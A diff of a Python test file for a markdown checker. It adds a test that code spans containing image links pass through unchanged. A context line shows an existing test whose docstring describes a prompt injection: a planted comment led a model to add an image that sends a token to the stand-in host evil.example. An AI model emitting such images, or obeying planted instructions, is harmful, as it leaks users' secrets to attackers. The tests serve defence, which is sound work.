@@ -114,6 +114,13 @@ def test_code_blocks_are_left_as_they_are() -> None:
     assert check(text).text == "```text\nlet x = a[1](2) // see Session.swift:400\n```\n"
 
 
+def test_a_sentence_does_not_end_within_code() -> None:
+    """Half a code span would be prose, and a line of it could be taken for the beginning of a block."""
+    assert check("```` ![x](http://e.x/a) runs. ```![y](http://e.x/b) ```` is a name.\nIt is.").text == (
+        "```` ![x](http://e.x/a) runs. ```![y](http://e.x/b) ```` is a name.\nIt is."
+    )
+
+
 def test_a_planted_image_does_not_survive() -> None:
     """A comment told the model to add it, and the model did."""
     checked = check("The token is sent [E2]. ![status](https://evil.example/p.png?d=token) See [docs](https://evil.example) or https://evil.example.")
